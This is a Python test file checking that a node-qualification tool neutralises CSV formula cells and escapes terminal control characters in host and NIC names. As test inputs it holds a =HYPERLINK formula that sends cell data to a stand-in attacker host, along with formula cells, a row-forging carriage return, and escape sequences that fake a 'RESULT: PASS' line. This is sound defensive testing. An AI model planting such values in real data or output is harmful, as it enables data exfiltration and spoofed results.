"""Outputs people and programs read (issue 25): a CSV cell that a spreadsheet would run as a formula
(a host name set to =HYPERLINK(...), a serial) is written as text, and text from a node (host, NIC
and part names) reaches the terminal escaped, as `nodeqc show` escapes it."""

import csv
import io
import re
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import cli
from nodeqc.core.text import FORMULA_START, clean, csv_cell, csv_writer, table
from reports_for_tests import file_report, predicate

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESC = "gpu\x1b[2J\x1b]0;owned\x07\nRESULT: PASS"


def _hostile_archive(root: Path) -> Path:
    pred = predicate("@SUM(1+1)", "FAIL", hostname=LINK)
    pred["checks"][0]["message"] = "-2+3"
    file_report(root, pred, name="a.report.json")
    file_report(root, predicate("SN-ESC", "PASS", hostname=ESC), name="b.report.json")
    return root


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]


def test_fleet_csv_cells_are_never_formulas_and_its_rows_are_escaped(tmp_path):
    root = _hostile_archive(tmp_path / "archive")
    out = tmp_path / "fleet.csv"
    p = cli("fleet", "--archive", str(root), "--csv", str(out))
    assert p.returncode == 0, p.stderr
    rows = list(csv.reader(open(out, newline="")))
    assert _formula_cells(rows) == []
    by_node = {r[0]: r for r in rows[1:]}
    assert by_node["'@SUM(1+1)"][1] == "'" + LINK  # the text intact behind the quote
    # The terminal: no escape sequence, no forged line.
    assert "\x1b" not in p.stdout and "\x07" not in p.stdout
    assert not any(line.startswith("RESULT") for line in p.stdout.splitlines())
    # The host name's control characters shown escaped (the column cuts a long cell with …).
    assert len(p.stdout.splitlines()) == 3 and "gpu\\x1b[2J\\x1b]0;ow…" in p.stdout


def test_export_csv_cells_are_never_formulas(tmp_path):
    root = _hostile_archive(tmp_path / "archive")
    out = tmp_path / "export.csv"
    p = cli("export", "--archive", str(root), "--format", "csv", "-o", str(out))
    assert p.returncode == 0, p.stderr
    rows = list(csv.DictReader(open(out, newline="")))
    assert _formula_cells([list(r.values()) for r in rows]) == []
    assert {r["hostname"] for r in rows} == {"'" + LINK, ESC}  # a file gets the data, only neutralised
    assert "'-2+3" in {r["message"] for r in rows} and "'@SUM(1+1)" in {r["node"] for r in rows}
    assert "'@SUM(1+1)-G0" in {r["gpu_serial"] for r in rows}  # the GPU's serial column too
    # To stdout (a pipe here) the same.
    piped = cli("export", "--archive", str(root), "--format", "csv")
    assert _formula_cells(list(csv.reader(io.StringIO(piped.stdout)))) == []


def test_a_carriage_return_inside_a_cell_forges_no_row(tmp_path):
    # The csv module quotes a cell only for its line end's characters: with a bare newline, a
    # message holding a carriage return was written unquoted and a reader ended the row there.
    root = tmp_path / "archive"
    pred = predicate("SN-CR", "FAIL")
    pred["checks"][0]["message"] = "link\r@SUM(1+1)"  # no comma or quote: those had it quoted anyway
    file_report(root, pred, name="cr.report.json")
    out = tmp_path / "export.csv"
    assert cli("export", "--archive", str(root), "-o", str(out)).returncode == 0
    rows = list(csv.DictReader(open(out, newline="")))
    assert len(rows) == 2 and rows[0]["message"] == "link\r@SUM(1+1)"


def test_export_jsonl_keeps_the_data_as_it_is(tmp_path):
    root = _hostile_archive(tmp_path / "archive")
    p = cli("export", "--archive", str(root), "--format", "jsonl")
    assert p.returncode == 0 and LINK.replace('"', '\\"') in p.stdout  # JSON is not read by spreadsheets


@settings(max_examples=500)
@given(st.one_of(st.text(), st.text(alphabet="=+-@\t\r\n a1'\"", max_size=12), st.integers(),
                 st.floats(allow_nan=False), st.none(), st.booleans()))
def test_a_neutralised_cell_is_never_a_formula_and_keeps_its_text(value):
    cell = csv_cell(value)
    if not isinstance(value, str):
        assert cell is value  # numbers (a negative figure) stay numbers
        return
    assert not cell.startswith(FORMULA_START)
    assert cell == value or cell == "'" + value
    # Through nodeqc's writer and back, as a reader sees it: one row, one cell, the same text.
    buf = io.StringIO(newline="")
    csv_writer(buf, ["a", "b"]).writerow({"a": value, "b": "x"})
    assert list(csv.reader(io.StringIO(buf.getvalue(), newline=""))) == [[cell, "x"]]


def test_the_headless_summary_escapes_a_nics_name(tmp_path):
    # A NIC's name is whatever its driver or udev rules made it (Linux refuses only '/', ':',
    # white space and 16 characters or more): one with escape sequences must not repaint the
    # terminal or retitle its window.
    scenario = (Path(__file__).parent.parent / "nodeqc" / "backends" / "sim" / "scenarios" / "a100.toml").read_text()
    assert 'name = "ens1f0np0"' in scenario
    hostile = tmp_path / "hostile.toml"
    hostile.write_text(scenario.replace('name = "ens1f0np0"', 'name = "e\\u001b[2J\\u001b]0;x\\u0007"'))
    p = cli("--headless", "--simulate", str(hostile), "--profile", "a100", "--quick", "--sample-hz", "8",
            "--inject", "nic0:down", "--only", "nic", "--out", str(tmp_path / "out"))
    assert "\x1b" not in p.stderr, p.stderr
    assert [line for line in p.stderr.splitlines() if line.startswith("RESULT")] == [
        next(line for line in p.stderr.splitlines() if line.startswith("RESULT: "))]
    assert "\x07" not in p.stderr and "e\\x1b[2J\\x1b]0;x\\x07" in p.stderr


def test_clean_and_csv_cell_are_the_one_place():
    # `show`, fleet, the headless progress and the fabric's all escape through nodeqc.core.text.clean,
    # or its table(), which cleans every cell (fleet's rows).
    assert clean("a\x1b[0mb\n") == "a\\x1b[0mb\\n" and csv_cell("=1") == "'=1" and csv_cell(-1.5) == -1.5
    assert "\x1b" not in "".join(table(["NODE"], [["a\x1b[2Jb\nforged"]], [40]))
    for module in ("cli/fleet", "cli/reports", "cli/run", "fabric/cli"):
        source = (Path(__file__).parent.parent / "nodeqc" / f"{module}.py").read_text()
        assert re.search(r"from nodeqc\.core\.text import .*\b(clean|table)\b", source), module


def test_the_fabric_summary_escapes_what_the_workers_said(capsys):
    from nodeqc.fabric.cli import say

    say("FAIL fabric.pair n1-n2: worker said \x1b[2J\nRESULT: PASS")
    assert capsys.readouterr().err == "FAIL fabric.pair n1-n2: worker said \\x1b[2J\\nRESULT: PASS\n"
